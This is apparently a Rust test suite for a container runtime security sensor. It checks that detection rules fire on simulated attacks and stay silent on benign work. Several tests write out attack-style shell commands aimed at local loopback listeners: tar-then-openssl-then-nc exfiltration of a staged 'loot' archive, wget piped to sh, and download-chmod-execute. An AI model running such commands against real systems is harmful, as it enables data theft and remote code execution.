//! The seeds' Linux validation steps, run for real inside containers with
//! the sensor and its built-in rules: each must raise its alert, attributed
//! to the right container; the benign suite must raise none.
use std::{
    collections::BTreeSet,
    io::{Read as _, Write as _},
    net::{TcpListener, TcpStream},
    path::Path,
    process::Command,
    time::Duration,
};

use sensor_tests::{RuncContainer, Sensor, container_id, marker_rule, run_marker, unique_dir};
use serde_json::Value;

// Container scripts end with `sensor_tests::linger()`: runtime state
// (runc's state.json, the OCI bundle) goes with the container, and a sensor
// starved of CPU by the parallel suite may read a 20 ms container's first
// exec only after that. Short containers then keep their id but lose mount
// metadata (docs/RULES.md, blind spots); these tests are about the rules,
// so the containers linger.

/// Alerts whose container is `id`.
fn alerts_in(sensor: &mut Sensor, id: &str) -> Vec<Value> {
    sensor.find("alert", |r| r["container"]["id"] == id)
}

/// The first alert of `rule`.
fn alert<'a>(alerts: &'a [Value], rule: &str) -> &'a Value {
    alerts
        .iter()
        .find(|a| a["rule"]["id"] == rule)
        .unwrap_or_else(|| panic!("no {rule} alert: {:?}", rule_ids(alerts)))
}

fn rule_ids(alerts: &[Value]) -> BTreeSet<String> {
    alerts
        .iter()
        .map(|a| a["rule"]["id"].as_str().unwrap_or_default().to_owned())
        .collect()
}

/// Every rule in `want` alerted in container `id`; on failure, shows what
/// the container did.
fn assert_fired(sensor: &mut Sensor, id: &str, want: &[&str]) -> Vec<Value> {
    let alerts = alerts_in(sensor, id);
    let got = rule_ids(&alerts);
    let missing: Vec<_> = want.iter().filter(|w| !got.contains(**w)).collect();
    if !missing.is_empty() {
        let seen: Vec<String> = sensor
            .find("exec", |r| r["container"]["id"] == id)
            .into_iter()
            .chain(sensor.find("open", |r| {
                r["container"]["id"] == id && r["open"]["access"] != "read"
            }))
            .chain(sensor.find("connect", |r| r["container"]["id"] == id))
            .map(|r| r.to_string())
            .collect();
        let starts: Vec<String> = sensor
            .find("container_start", |_| true)
            .iter()
            .map(|r| r["container"].to_string())
            .collect();
        panic!(
            "missing alerts {missing:?}; got {got:?}; the container did:\n{}\n\
             containers the sensor saw start:\n{}",
            seen.join("\n"),
            starts.join("\n")
        );
    }
    alerts
}

/// A TCP peer on the host that reads what it is sent, then closes (so a
/// busybox `nc` in the container exits).
fn sink_listener(addr: &str) -> u16 {
    let listener = TcpListener::bind(addr).unwrap_or_else(|e| panic!("bind {addr}: {e}"));
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for conn in listener.incoming().flatten() {
            let mut conn = conn;
            conn.set_read_timeout(Some(Duration::from_millis(500))).ok();
            let mut buf = [0u8; 4096];
            while matches!(conn.read(&mut buf), Ok(n) if n > 0) {}
        }
    });
    port
}

/// A minimal HTTP server on the host: GET /<name> answers with `files`.
fn http_server(addr: &str, files: Vec<(&'static str, Vec<u8>)>) -> u16 {
    let listener = TcpListener::bind(addr).unwrap_or_else(|e| panic!("bind {addr}: {e}"));
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for conn in listener.incoming().flatten() {
            let mut conn: TcpStream = conn;
            conn.set_read_timeout(Some(Duration::from_secs(2))).ok();
            let mut req = Vec::new();
            let mut buf = [0u8; 1024];
            while !req.windows(4).any(|w| w == b"\r\n\r\n") {
                match conn.read(&mut buf) {
                    Ok(n) if n > 0 => req.extend_from_slice(&buf[..n]),
                    _ => break,
                }
            }
            let line = String::from_utf8_lossy(&req);
            let path = line.split_whitespace().nth(1).unwrap_or("/");
            let body = files
                .iter()
                .find(|(n, _)| path.trim_start_matches('/') == *n)
                .map(|(_, b)| b.clone());
            let _ = match body {
                Some(b) => conn
                    .write_all(
                        format!("HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n", b.len())
                            .as_bytes(),
                    )
                    .and_then(|()| conn.write_all(&b)),
                None => conn.write_all(b"HTTP/1.0 404 Not Found\r\nContent-Length: 0\r\n\r\n"),
            };
        }
    });
    port
}

#[test]
fn staging_archive_encrypt_egress_in_a_container() {
    let port = sink_listener("127.0.0.2:0");
    let host_dir = unique_dir("stage");
    std::fs::write(
        host_dir.path().join("customers.csv"),
        b"alice,4111111111111111\n",
    )
    .unwrap();
    let id = container_id(0x31);
    let script = format!(
        "/bin/id; /bin/uname -a >> /data/discovery.txt; /bin/hostname >> /data/discovery.txt; \
         tar czf /tmp/loot.tgz /data; \
         openssl enc -aes-256-cbc -pbkdf2 -k hunter2 -in /tmp/loot.tgz -out /tmp/loot.enc; \
         nc 127.0.0.2 {port} < /tmp/loot.enc; {}",
        sensor_tests::linger()
    );
    let ctr = RuncContainer::with_config(&id, &format!("/docker/{id}"), &script, |c| {
        RuncContainer::host_network(c);
        RuncContainer::bind_mount(c, host_dir.path(), "/data");
    });
    ctr.add_host_program("openssl");
    let mut sensor = Sensor::start(&[]);
    ctr.run();
    let alerts = assert_fired(
        &mut sensor,
        &id,
        &[
            "T1074.001-discovery-staged",
            "T1560-archive-in-container",
            "T1560-archive-written-to-staging",
            "T1048.001-symmetric-encryption-in-container",
            "T1048.001-encrypt-then-egress",
            "T1048.001-stage-archive-encrypt-egress",
        ],
    );
    let chain = alert(&alerts, "T1048.001-stage-archive-encrypt-egress");
    assert_eq!(chain["rule"]["technique"]["id"], "T1048.001");
    assert_eq!(chain["rule"]["severity"], "critical");
    assert_eq!(
        chain["steps"],
        serde_json::json!(["stage", "archive", "encrypt", "egress"])
    );
    let evidence = chain["evidence"].as_array().unwrap();
    let kinds: Vec<&str> = evidence
        .iter()
        .map(|e| e["kind"].as_str().unwrap())
        .collect();
    assert_eq!(kinds, ["open", "exec", "exec", "connect"], "{chain}");
    assert_eq!(evidence[0]["open"]["path"], "/data/discovery.txt");
    assert_eq!(evidence[1]["exec"]["args"][0], "tar");
    assert_eq!(evidence[2]["exec"]["args"][1], "enc");
    assert_eq!(evidence[3]["connect"]["port"], port);
    assert!(evidence.iter().all(|e| e["container"]["id"] == id.as_str()));
    assert_eq!(chain["fields"]["connect.port"], port);
    // The host, where the test itself runs, is not blamed.
    assert!(alerts.iter().all(|a| a["container"]["runtime"] == "docker"));
}

#[test]
fn ingress_tool_transfer_in_a_container() {
    let busybox = std::fs::read("/usr/bin/busybox").unwrap();
    let port = http_server(
        "127.0.0.2:0",
        vec![
            ("tool", busybox),
            ("install.sh", b"echo installed\n".to_vec()),
        ],
    );
    let id = container_id(0x32);
    let script = format!(
        "/bin/wget -q -O /tmp/tool http://127.0.0.2:{port}/tool; /bin/chmod +x /tmp/tool; /tmp/tool; \
         /bin/wget -q -O - http://127.0.0.2:{port}/install.sh | sh; \
         rsync -a /etc/hostname rsync://127.0.0.2:1/push/; \
         rsync -a rsync://127.0.0.2:1/pull/file /tmp/; \
         scp -o BatchMode=yes /etc/hostname backup@127.0.0.2:/srv/; true"
    );
    let ctr = RuncContainer::with_config(
        &id,
        &format!("/kubepods/besteffort/pod5f3c2a9e-8d1b-4c7a-9e2f-0b6d4a1c3e57/{id}"),
        &script,
        RuncContainer::host_network,
    );
    ctr.add_host_program("rsync");
    ctr.add_host_program("scp");
    let mut sensor = Sensor::start(&[]);
    ctr.run();
    let alerts = assert_fired(
        &mut sensor,
        &id,
        &[
            "T1105-download-in-container",
            "T1105-made-executable-in-temp",
            "T1105-downloaded-file-executed",
            "T1105-pipe-to-shell",
            "T1105-remote-copy-in-container",
            "T1105-remote-copy-into-temp",
        ],
    );
    let ran = alert(&alerts, "T1105-downloaded-file-executed");
    let ev = ran["evidence"].as_array().unwrap();
    assert_eq!(ev[0]["open"]["path"], "/tmp/tool");
    assert_eq!(ev[1]["exec"]["path"], "/tmp/tool");
    let copies = alerts
        .iter()
        .filter(|a| a["rule"]["id"] == "T1105-remote-copy-in-container")
        .count();
    assert_eq!(copies, 3, "two rsyncs and one scp");
}

#[test]
fn email_collection_in_a_container() {
    let port = {
        // A mail protocol port: IMAPS.
        let l = TcpListener::bind("127.0.0.2:993").expect("bind 127.0.0.2:993");
        std::thread::spawn(move || for _ in l.incoming() {});
        993
    };
    let id = container_id(0x33);
    let script = format!(
        "cat /var/mail/alice > /dev/null; tar czf /tmp/mail.tgz /home/alice/Maildir; \
         nc 127.0.0.2 {port} < /dev/null; true"
    );
    let ctr = RuncContainer::with_config(
        &id,
        &format!("/system.slice/crio-{id}.scope"),
        &script,
        RuncContainer::host_network,
    );
    let root = ctr.rootfs();
    std::fs::create_dir_all(root.join("var/mail")).unwrap();
    std::fs::write(root.join("var/mail/alice"), b"From bob\nSubject: keys\n\n").unwrap();
    std::fs::create_dir_all(root.join("home/alice/Maildir/cur")).unwrap();
    std::fs::write(root.join("home/alice/Maildir/cur/1.eml"), b"Subject: hi\n").unwrap();
    let mut sensor = Sensor::start(&[]);
    ctr.run();
    let alerts = assert_fired(
        &mut sensor,
        &id,
        &[
            "T1114-mailbox-read",
            "T1114-mailbox-archived",
            "T1114-mail-protocol-from-container",
        ],
    );
    let read = alert(&alerts, "T1114-mailbox-read");
    assert_eq!(read["fields"]["open.path"], "/var/mail/alice");
    assert_eq!(read["container"]["runtime"], "cri-o");
}

#[test]
fn discovery_script_from_a_host_folder_in_docker() {
    let dockerd = sensor_tests::Dockerd::start();
    dockerd.import_busybox("sensor-test/ubuntu:staging");
    let scripts = unique_dir("scripts");
    let script = scripts.path().join("Discovery.sh");
    std::fs::write(
        &script,
        format!("#!/bin/sh\n/bin/id\n/bin/uname -a > /scripts/out.txt\n/bin/hostname >> /scripts/out.txt\n{}\n", sensor_tests::linger()),
    )
    .unwrap();
    Command::new("chmod")
        .arg("+x")
        .arg(&script)
        .status()
        .unwrap();
    let name = format!("sensor-staging-{}", std::process::id());
    let mut sensor = Sensor::start(&[]);
    let volume = format!("{}:/scripts", scripts.path().display());
    let out = dockerd.docker(&[
        "run",
        "--rm",
        "--network",
        "none",
        "--name",
        &name,
        "-v",
        &volume,
        "sensor-test/ubuntu:staging",
        "/bin/sh",
        "-c",
        "/scripts/Discovery.sh",
    ]);
    assert!(
        out.status.success(),
        "docker run: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let alerts = sensor.find("alert", |_| true);
    let staged = alerts
        .iter()
        .find(|a| {
            a["rule"]["id"] == "T1074.001-discovery-staged"
                && a["container"]["name"] == name.as_str()
        })
        .unwrap_or_else(|| panic!("no staging alert for {name}: {:?}", rule_ids(&alerts)));
    assert_eq!(staged["container"]["image"], "sensor-test/ubuntu:staging");
    assert_eq!(staged["fields"]["open.path"], "/scripts/out.txt");
    // The docker CLI on the host ran a script from a bind-mounted folder.
    let cli = alerts
        .iter()
        .find(|a| a["rule"]["id"] == "T1074.001-container-run-script-from-host-mount")
        .unwrap_or_else(|| panic!("no CLI alert: {:?}", rule_ids(&alerts)));
    assert_eq!(cli["container"]["id"], "host");
    assert!(
        cli["fields"]["proc.cmdline"]
            .as_str()
            .unwrap()
            .contains(&volume)
    );
}

/// Everyday work, on the host and in containers: builds, unpacking and
/// searching sources, health checks, decompression, hashing, a container
/// reading its own mounted config. None of it may alert.
#[test]
fn benign_suite_raises_no_alert() {
    let health = http_server("127.0.0.1:0", vec![("health", b"ok".to_vec())]);
    let work = unique_dir("benign");
    let driver = work.path().join("benign-driver.sh");
    std::fs::write(
        &driver,
        format!(
            "set -e\ncd {dir}\n\
             printf 'int main(void){{return 0;}}\\n' > main.c\n\
             printf 'app: main.c\\n\\tgcc -O2 -o app main.c\\n' > Makefile\n\
             make -s\n./app\n\
             tar czf src.tgz main.c Makefile\nmkdir -p unpacked\ntar xzf src.tgz -C unpacked\n\
             grep -r main unpacked > /dev/null\n\
             gzip -k main.c\ngzip -d -f main.c.gz\n\
             openssl dgst -sha256 main.c > /dev/null\n\
             curl -s -o /dev/null http://127.0.0.1:{health}/health\n",
            dir = work.path().display()
        ),
    )
    .unwrap();
    let config_dir = unique_dir("appcfg");
    std::fs::write(config_dir.path().join("app.conf"), b"port=8080\n").unwrap();
    let id = container_id(0x34);
    let ctr = RuncContainer::with_config(
        &id,
        &format!("/docker/{id}"),
        &format!(
            "cat /config/app.conf > /dev/null; echo started > /tmp/app.log; \
             wget -q -O /dev/null http://127.0.0.1:{health}/health; gzip -d -f /tmp/seed.gz"
        ),
        |c| {
            RuncContainer::host_network(c);
            RuncContainer::bind_mount(c, config_dir.path(), "/config");
        },
    );
    // An entry point unpacking what its image shipped.
    let seed = ctr.rootfs().join("tmp/seed");
    std::fs::write(&seed, b"defaults\n").unwrap();
    assert!(Command::new("gzip").arg(&seed).status().unwrap().success());
    let mut sensor = Sensor::start(&[]);
    let status = Command::new("sh").arg(&driver).status().unwrap();
    assert!(status.success());
    ctr.run();
    let marker = driver.to_str().unwrap().to_owned();
    let ours = |e: &Value| {
        e["container"]["id"] == id.as_str()
            || e["process"]["ancestors"].as_array().is_some_and(|a| {
                a.iter().any(|p| {
                    p["args"]
                        .as_array()
                        .is_some_and(|a| a.iter().any(|x| x == marker.as_str()))
                })
            })
    };
    let alerts = sensor.find("alert", |a| {
        a["evidence"]
            .as_array()
            .is_some_and(|ev| ev.iter().any(ours))
    });
    assert!(
        alerts.is_empty(),
        "benign work alerted: {:?}\n{}",
        rule_ids(&alerts),
        alerts
            .iter()
            .map(Value::to_string)
            .collect::<Vec<_>>()
            .join("\n")
    );
    // The workload was seen: silence is not blindness.
    let seen = sensor.find("exec", |r| ours(r) && r["process"]["comm"] == "gcc");
    assert!(
        !seen.is_empty(),
        "the build's gcc exec was not seen; gcc execs from anywhere:\n{}",
        sensor
            .find("exec", |r| r["process"]["comm"] == "gcc")
            .iter()
            .map(Value::to_string)
            .collect::<Vec<_>>()
            .join("\n")
    );
    assert!(Path::new(&work.path().join("app")).exists());
}

#[test]
fn sighup_reloads_rules_and_refuses_a_bad_set() {
    let dir = unique_dir("rules");
    let file = dir.path().join("local.yaml");
    std::fs::write(&file, marker_rule("marker-one", "reload-marker-1")).unwrap();
    let sensor = Sensor::start(&["--rules", dir.path().to_str().unwrap()]);
    run_marker("reload-marker-1");
    sensor.wait_for("alert", "the first rule set", |a| {
        a["rule"]["id"] == "marker-one"
    });

    // Broken sets are refused; the running one stays. A condition nested
    // 100,000 deep once overflowed the stack and killed the sensor here.
    let deep = marker_rule("marker-deep", "reload-marker-1").replace(
        "condition: evt.type",
        &format!("condition: {}evt.type", "not ".repeat(100_000)),
    );
    for (i, (text, error)) in [
        ("rules: [\n".to_owned(), "local.yaml:2:1"),
        (deep, "nest deeper than 64 levels"),
    ]
    .into_iter()
    .enumerate()
    {
        std::fs::write(&file, text).unwrap();
        sensor.signal(libc::SIGHUP);
        let deadline = std::time::Instant::now() + sensor_tests::patience(10);
        while sensor.log().matches("rule reload refused").count() <= i {
            assert!(
                std::time::Instant::now() < deadline,
                "reload {i} not refused:\n{}",
                sensor.log()
            );
            std::thread::sleep(Duration::from_millis(50));
        }
        assert!(sensor.log().contains(error), "{}", sensor.log());
    }
    std::fs::write(&file, marker_rule("marker-two", "reload-marker-2")).unwrap();
    run_marker("reload-marker-1");
    // Evaluated under the kept set before the next reload is asked for.
    let count_one = || {
        sensor
            .records_so_far()
            .into_iter()
            .filter(|a| a["kind"] == "alert" && a["rule"]["id"] == "marker-one")
            .count()
    };
    let deadline = std::time::Instant::now() + sensor_tests::patience(10);
    while count_one() < 2 {
        assert!(
            std::time::Instant::now() < deadline,
            "the kept set did not alert:\n{}",
            sensor.log()
        );
        std::thread::sleep(Duration::from_millis(50));
    }
    let before = sensor
        .records_so_far()
        .into_iter()
        .rev()
        .find(|a| a["kind"] == "alert" && a["rule"]["id"] == "marker-one")
        .unwrap();

    sensor.signal(libc::SIGHUP);
    sensor.wait_log("rules reloaded");
    run_marker("reload-marker-2");
    run_marker("reload-marker-1");
    let after = sensor.wait_for("alert", "the new rule set", |a| {
        a["rule"]["id"] == "marker-two"
    });
    assert!(after["boot_ns"].as_u64() > before["boot_ns"].as_u64());
    // Give the last marker-1 exec time to be evaluated: it must not alert.
    std::thread::sleep(Duration::from_millis(300));
    assert_eq!(count_one(), 2, "marker-one fired after the reload");
}

#[test]
fn a_bad_rule_file_stops_the_sensor_before_it_loads() {
    let dir = unique_dir("badrules");
    let file = dir.path().join("bad.yaml");
    std::fs::write(
        &file,
        marker_rule("x", "y").replace("proc.args", "proc.argz"),
    )
    .unwrap();
    let out = Command::new(sensor_tests::sensor_bin())
        .args([
            "run",
            "--metrics-address",
            "off",
            "--rules",
            file.to_str().unwrap(),
        ])
        .output()
        .unwrap();
    assert!(!out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("bad.yaml:8:36: unknown field 'proc.argz'"),
        "{stderr}"
    );
    assert!(
        !stderr.contains("hook attached"),
        "it loaded before refusing: {stderr}"
    );
}

#[test]
fn container_started_with_a_runtime_socket_alerts_at_start() {
    let sock_dir = unique_dir("sock");
    let sock = sock_dir.path().join("docker.sock");
    std::fs::write(&sock, b"").unwrap();
    let id = container_id(0x35);
    let ctr = RuncContainer::with_config(
        &id,
        &format!("/docker/{id}"),
        &sensor_tests::linger(),
        |c| {
            RuncContainer::bind_mount(c, &sock, "/var/run/docker.sock");
        },
    );
    let mut sensor = Sensor::start(&[]);
    ctr.run();
    let alerts = assert_fired(
        &mut sensor,
        &id,
        &["T1074.001-sensitive-host-path-writable"],
    );
    let a = alert(&alerts, "T1074.001-sensitive-host-path-writable");
    assert_eq!(a["evidence"][0]["kind"], "container_start");
    assert_eq!(a["fields"]["container.runtime_socket"], true);
}

#[test]
fn egress_volume_per_container_and_destination() {
    let port = sink_listener("127.0.0.2:0");
    let id = container_id(0x36);
    let ctr = RuncContainer::with_config(
        &id,
        &format!("/docker/{id}"),
        &format!("/bin/dd if=/dev/zero bs=1000 count=2000 | nc 127.0.0.2 {port}"),
        RuncContainer::host_network,
    );
    // The shipped rule wants 100 MB to an external address; a local rule
    // with a test-sized threshold proves the field path end to end. The
    // threshold is an eighth of what is sent: a guest starved of CPU spreads
    // the transfer over several 1 s intervals (the rule judges one), and
    // one of up to eight parts still reaches it.
    let dir = unique_dir("egress-rules");
    std::fs::write(
        dir.path().join("volume.yaml"),
        "pack: local\ntechnique: {id: T1048.001, name: test, tactic: exfiltration}\nrules:\n  \
         - id: test-egress-volume\n    title: volume\n    severity: high\n    description: test\n    \
         condition: evt.type = egress and container.id != host and egress.bytes >= 250000 and egress.address = 127.0.0.2\n    \
         output: [egress.bytes, egress.port]\n",
    )
    .unwrap();
    let mut sensor = Sensor::start(&[
        "--rules",
        dir.path().to_str().unwrap(),
        "--egress-interval",
        "1s",
    ]);
    ctr.run();
    let egress: Vec<Value> = sensor.find("egress", |r| {
        r["container"]["id"] == id.as_str() && r["egress"]["port"] == port
    });
    let bytes: u64 = egress
        .iter()
        .map(|r| r["egress"]["bytes"].as_u64().unwrap())
        .sum();
    assert!(
        bytes >= 2_000_000,
        "counted {bytes} bytes; every egress record:\n{:?}\n{}",
        sensor.find("egress", |_| true),
        sensor
            .find("exec", |r| r["container"]["id"] == id.as_str())
            .len()
    );
    assert_eq!(egress[0]["egress"]["address"], "127.0.0.2");
    assert_eq!(egress[0]["egress"]["protocol"], "tcp");
    let alerts = alerts_in(&mut sensor, &id);
    let parts: Vec<u64> = egress
        .iter()
        .map(|r| r["egress"]["bytes"].as_u64().unwrap())
        .collect();
    assert!(
        alerts
            .iter()
            .any(|a| a["rule"]["id"] == "test-egress-volume"),
        "no test-egress-volume alert; bytes per interval: {parts:?}"
    );
    let a = alert(&alerts, "test-egress-volume");
    assert!(a["fields"]["egress.bytes"].as_u64().unwrap() >= 250_000);
}

/// A download sends almost nothing: its request, then only ACKs, which are
/// not data going out. Counting them made every download (and the server
/// half of every handshake) look like egress.
#[test]
fn egress_of_a_download_is_its_request_not_its_acks() {
    let port = http_server("127.0.0.3:0", vec![("big", vec![0u8; 20_000_000])]);
    let id = container_id(0x37);
    let ctr = RuncContainer::with_config(
        &id,
        &format!("/docker/{id}"),
        &format!("/bin/wget -q -O /dev/null http://127.0.0.3:{port}/big"),
        RuncContainer::host_network,
    );
    let mut sensor = Sensor::start(&["--egress-interval", "1s"]);
    ctr.run();
    let egress: Vec<Value> = sensor.find("egress", |r| {
        r["container"]["id"] == id.as_str() && r["egress"]["port"] == port
    });
    let total = |field: &str| -> u64 {
        egress
            .iter()
            .map(|r| r["egress"][field].as_u64().unwrap())
            .sum()
    };
    // The GET is one segment of about 150 bytes; 20 MB of ACKs are
    // hundreds of packets even with loopback's 64 KiB segments.
    assert!(
        total("packets") >= 1 && total("packets") <= 2 && total("bytes") < 1500,
        "the download's egress should be its request alone: {egress:?}"
    );
}
